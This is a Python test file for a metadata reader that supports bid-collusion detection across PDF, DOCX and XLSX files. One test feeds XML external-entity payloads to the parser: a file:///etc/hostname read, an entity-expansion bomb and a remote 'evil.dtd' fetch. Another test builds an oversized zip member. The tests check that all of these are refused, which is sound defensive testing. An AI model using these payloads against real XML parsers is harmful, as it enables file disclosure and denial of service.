"""Reading a bid document's metadata for the collusion report (issue 24; RULES e: same author, same file
creation id): real PDFs (reportlab, pypdf), DOCX (the zip written here) and XLSX (openpyxl); the type
sniffed from the bytes; unreadable files, zip bombs and XML entities give what could be read, never
an exception."""

from __future__ import annotations

import io
import re
import zipfile
from datetime import UTC, datetime

import pytest
from openpyxl import Workbook  # type: ignore[import-untyped]  # openpyxl ships no type information
from openpyxl.packaging.custom import StringProperty  # type: ignore[import-untyped]
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, ByteStringObject, TextStringObject
from reportlab.pdfgen import canvas

from bidding.collusion.doc_metadata import MAX_MEMBER_BYTES, MAX_TEXT, parse_pdf_date, read_metadata, sniff
from bidding.collusion.signals import BidFacts, DocumentMeta, Rule, signals

CORE_NS = (
    'xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
    'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/" '
    'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
)


def reportlab_pdf(author: str, creator: str) -> bytes:
    out = io.BytesIO()
    page = canvas.Canvas(out)
    page.setAuthor(author)
    page.setCreator(creator)
    page.drawString(72, 72, "bid")
    page.showPage()
    page.save()
    return out.getvalue()


def pypdf_pdf(metadata: dict[str, str], user_password: str | None = None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.add_metadata(metadata)
    if user_password is not None:
        writer.encrypt(user_password=user_password, owner_password="owner", algorithm="AES-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def first_id(pdf: bytes) -> str:
    """The first element of the trailer's /ID as the file spells it (reportlab writes hex strings)."""
    match = re.search(rb"/ID\s*\[\s*<([0-9a-fA-F]+)>", pdf)
    assert match is not None
    return match.group(1).decode().lower()


def core_xml(creator: str, editor: str, created: str = "2026-12-01T09:00:00Z", prolog: str = "") -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{prolog}'
        f"<cp:coreProperties {CORE_NS}><dc:creator>{creator}</dc:creator>"
        f"<cp:lastModifiedBy>{editor}</cp:lastModifiedBy>"
        f'<dcterms:created xsi:type="dcterms:W3CDTF">{created}</dcterms:created></cp:coreProperties>'
    ).encode()


APP_XML = (
    b'<?xml version="1.0" encoding="UTF-8"?><Properties '
    b'xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties">'
    b"<Template>\xe6\x9f\x90\xe5\x85\xac\xe5\x8f\xb8\xe6\x8a\x95\xe6\xa0\x87.dotx</Template>"  # 某公司投标.dotx
    b"<Application>WPS Office_12.1.0</Application></Properties>"
)
SETTINGS_XML = (
    b'<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    b'xmlns:w14="http://schemas.microsoft.com/office/word/2010/wordml" '
    b'xmlns:w15="http://schemas.microsoft.com/office/word/2012/wordml">'
    b'<w14:docId w14:val="1A2B3C4D"/><w15:docId w15:val="{0C4E1E0B-7D7A-4C53-9E4A-3E8A2F1B2C3D}"/></w:settings>'
)


def docx(parts: dict[str, bytes]) -> bytes:
    """A DOCX written by hand: the content types, the package and document relations, the body and the
    given parts (``docProps/core.xml``…)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/word/document.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
            "</Types>",
        )
        archive.writestr(
            "_rels/.rels",
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Target="word/document.xml" '
            'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"/>'
            "</Relationships>",
        )
        archive.writestr(
            "word/document.xml",
            '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            "<w:body><w:p><w:r><w:t>投标函</w:t></w:r></w:p></w:body></w:document>",
        )
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def xlsx(creator: str, editor: str, icv: str | None = None) -> bytes:
    book = Workbook()
    book.active.append(["项目", "报价"])
    book.properties.creator = creator
    book.properties.lastModifiedBy = editor
    book.properties.created = datetime(2026, 12, 1, 9, 30)
    if icv is not None:
        book.custom_doc_props.append(StringProperty(name="ICV", value=icv))
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_a_reportlab_pdf() -> None:
    pdf = reportlab_pdf("李四", "WPS 文字")
    meta = read_metadata("商务标.pdf", pdf)
    assert (meta.name, meta.kind, meta.author, meta.application) == ("商务标.pdf", "pdf", "李四", "WPS 文字")
    assert meta.producer is not None and "ReportLab" in meta.producer
    assert meta.doc_id == first_id(pdf)
    assert meta.created is not None and meta.created.tzinfo is UTC
    assert (meta.last_modified_by, meta.template) == (None, None)


def test_an_edited_copy_keeps_the_pdf_id() -> None:
    original = reportlab_pdf("李四", "WPS 文字")
    writer = PdfWriter(io.BytesIO(original), incremental=True)
    writer.add_metadata({"/Author": "王五"})
    copy = io.BytesIO()
    writer.write(copy)
    meta = read_metadata("另一家.pdf", copy.getvalue())
    assert meta.author == "王五"
    assert meta.doc_id == first_id(original)
    other = read_metadata("x.pdf", reportlab_pdf("李四", "WPS 文字"))
    assert other.doc_id != meta.doc_id  # reportlab's /ID digests the time and content: a new file, a new id


def test_a_pypdf_pdf_with_its_date_in_china_time() -> None:
    meta = read_metadata(
        "技术标.pdf",
        pypdf_pdf({"/Author": "张三", "/Creator": "Microsoft Word", "/CreationDate": "D:20261201170000+08'00'"}),
    )
    assert (meta.author, meta.application, meta.producer) == ("张三", "Microsoft Word", "pypdf")
    assert meta.created == datetime(2026, 12, 1, 9, 0, tzinfo=UTC)


@pytest.mark.parametrize(("password", "author"), [("", "张三"), ("secret", None)])
def test_an_encrypted_pdf(password: str, author: str | None) -> None:
    pdf = pypdf_pdf({"/Author": "张三"}, user_password=password)
    meta = read_metadata("enc.pdf", pdf)
    assert meta.kind == "pdf"
    assert meta.author == author
    ids = PdfReader(io.BytesIO(pdf)).trailer["/ID"]
    assert isinstance(ids, ArrayObject) and isinstance(ids[0], TextStringObject | ByteStringObject)
    raw = ids[0].original_bytes if isinstance(ids[0], TextStringObject) else bytes(ids[0])
    assert meta.doc_id == raw.hex()  # the trailer is never encrypted


def test_a_docx() -> None:
    custom = (
        b'<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties" '
        b'xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes">'
        b'<property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="2" name="KSOProductBuildVer">'
        b"<vt:lpwstr>2052-12.1.0</vt:lpwstr></property>"
        b'<property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="3" name="ICV">'
        b"<vt:lpwstr>8F2C1D0E6B4A4B1C9D3E</vt:lpwstr></property></Properties>"
    )
    parts = {
        "docProps/core.xml": core_xml("王五", "赵六", "2026-12-01T17:00:00+08:00"),
        "docProps/app.xml": APP_XML,
        "word/settings.xml": SETTINGS_XML,
    }
    meta = read_metadata("技术标.pdf", docx({**parts, "docProps/custom.xml": custom}))  # the name says pdf
    assert meta == DocumentMeta(
        name="技术标.pdf",
        kind="docx",
        author="王五",
        last_modified_by="赵六",
        application="WPS Office_12.1.0",
        template="某公司投标.dotx",
        doc_id="8F2C1D0E6B4A4B1C9D3E",
        created=datetime(2026, 12, 1, 9, 0, tzinfo=UTC),
    )
    # Without WPS's ICV, Word's docId (w15 before w14).
    assert read_metadata("a.docx", docx(parts)).doc_id == "{0C4E1E0B-7D7A-4C53-9E4A-3E8A2F1B2C3D}"


def test_an_xlsx() -> None:
    meta = read_metadata("报价.xlsx", xlsx("张三", "李四", icv="AB12CD34"))
    assert (meta.kind, meta.author, meta.last_modified_by, meta.doc_id) == ("xlsx", "张三", "李四", "AB12CD34")
    assert meta.application is not None and "Openpyxl" in meta.application
    assert meta.created == datetime(2026, 12, 1, 9, 30, tzinfo=UTC)
    assert read_metadata("报价.xlsx", xlsx("张三", "李四")).doc_id is None


def test_the_type_is_sniffed_from_the_bytes() -> None:
    assert sniff(reportlab_pdf("a", "b")) == "pdf"
    assert sniff(b"\x00" * 100 + b"%PDF-1.7\n") == "pdf"  # the header may follow some junk
    assert sniff(xlsx("a", "b")) == "xlsx"
    assert sniff(docx({})) == "docx"
    assert sniff(b"PK\x03\x04 not a zip") == "other"
    assert sniff(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 an old .doc") == "other"
    other = read_metadata("报价.pdf", b"Rar!\x1a\x07\x00")
    assert other == DocumentMeta(name="报价.pdf", kind="other")


@pytest.mark.parametrize(
    "data",
    [
        b"%PDF-1.7\n",
        b"%PDF-1.7\n1 0 obj << /Author (x) >> endobj\ntrailer << /Root 9 0 R /Info 1 0 R >>\n%%EOF",
        b"%PDF-" + bytes(range(256)) * 40,
        b"",
    ],
)
def test_a_broken_pdf_gives_what_could_be_read(data: bytes) -> None:
    meta = read_metadata("broken.pdf", data)
    assert meta.name == "broken.pdf"
    assert meta.kind == ("pdf" if data else "other")
    assert meta.doc_id is None


def test_a_truncated_office_file() -> None:
    whole = docx({"docProps/core.xml": core_xml("王五", "赵六")})
    meta = read_metadata("t.docx", whole[: len(whole) // 2])
    assert meta.author is None
    assert meta.kind == "other"  # without its central directory the zip is no zip


def test_a_zip_bomb_member_is_not_read() -> None:
    padding = " " * (MAX_MEMBER_BYTES + 1)
    bomb = core_xml("王五", "赵六" + padding)
    data = docx({"docProps/core.xml": bomb, "docProps/app.xml": APP_XML})
    assert len(data) < 100_000  # deflated, it is small
    meta = read_metadata("bomb.docx", data)
    assert (meta.kind, meta.author, meta.last_modified_by) == ("docx", None, None)
    assert meta.application == "WPS Office_12.1.0"  # the other parts are still read
    # Just under the cap, it is read.
    fits = core_xml("王五", "赵六")
    fits += b" " * (MAX_MEMBER_BYTES - len(fits))
    assert read_metadata("ok.docx", docx({"docProps/core.xml": fits})).author == "王五"


@pytest.mark.parametrize(
    "prolog",
    [
        '<!DOCTYPE x [<!ENTITY who SYSTEM "file:///etc/hostname">]>',
        '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        '<!DOCTYPE x SYSTEM "http://203.0.113.1/evil.dtd">',
    ],
)
def test_xml_with_a_doctype_or_entities_is_refused(prolog: str) -> None:
    core = (
        core_xml("&who;&b;王五", "赵六", prolog=prolog)
        if "ENTITY" in prolog
        else core_xml("王五", "赵六", prolog=prolog)
    )
    meta = read_metadata("xxe.docx", docx({"docProps/core.xml": core, "docProps/app.xml": APP_XML}))
    assert (meta.author, meta.last_modified_by) == (None, None)
    assert meta.template == "某公司投标.dotx"


def test_texts_are_cleaned_and_cut() -> None:
    meta = read_metadata("long.docx", docx({"docProps/core.xml": core_xml("  王\t五\n ", "x" * 1000)}))
    assert meta.author == "王 五"
    assert meta.last_modified_by == "x" * MAX_TEXT
    assert meta.created == datetime(2026, 12, 1, 9, 0, tzinfo=UTC)


@pytest.mark.parametrize(
    ("text", "moment"),
    [
        ("D:20261201170000+08'00'", datetime(2026, 12, 1, 9, 0, tzinfo=UTC)),
        ("D:20261201170000+08'00", datetime(2026, 12, 1, 9, 0, tzinfo=UTC)),
        ("D:20261201043000-05'30'", datetime(2026, 12, 1, 10, 0, tzinfo=UTC)),
        ("D:20261201090000Z", datetime(2026, 12, 1, 9, 0, tzinfo=UTC)),
        ("D:20261201090000", datetime(2026, 12, 1, 9, 0, tzinfo=UTC)),  # no offset: taken as UTC
        ("D:2026", datetime(2026, 1, 1, tzinfo=UTC)),
        ("D:20261301", None),
        ("yesterday", None),
        (None, None),
    ],
)
def test_pdf_dates(text: str | None, moment: datetime | None) -> None:
    assert parse_pdf_date(text) == moment


def test_two_bidders_documents_from_one_file_are_a_signal() -> None:
    """The two modules together: a copy of one bidder's PDF, edited by another, shares its /ID."""
    original = reportlab_pdf("Administrator", "WPS 文字")
    writer = PdfWriter(io.BytesIO(original), incremental=True)
    writer.add_metadata({"/Author": "乙公司"})
    copy = io.BytesIO()
    writer.write(copy)
    bids = [
        BidFacts("b1", "X", "甲公司", documents=(read_metadata("商务标.pdf", original),)),
        BidFacts("b2", "Y", "乙公司", documents=(read_metadata("商务标.pdf", copy.getvalue()),)),
    ]
    found = signals(bids, hall_networks=(), now=datetime(2026, 12, 7, tzinfo=UTC))
    assert [(s.rule, s.evidence["field"], s.bid_ids) for s in found] == [
        (Rule.SAME_DOCUMENT_METADATA, "doc_id", ("b1", "b2"))
    ]
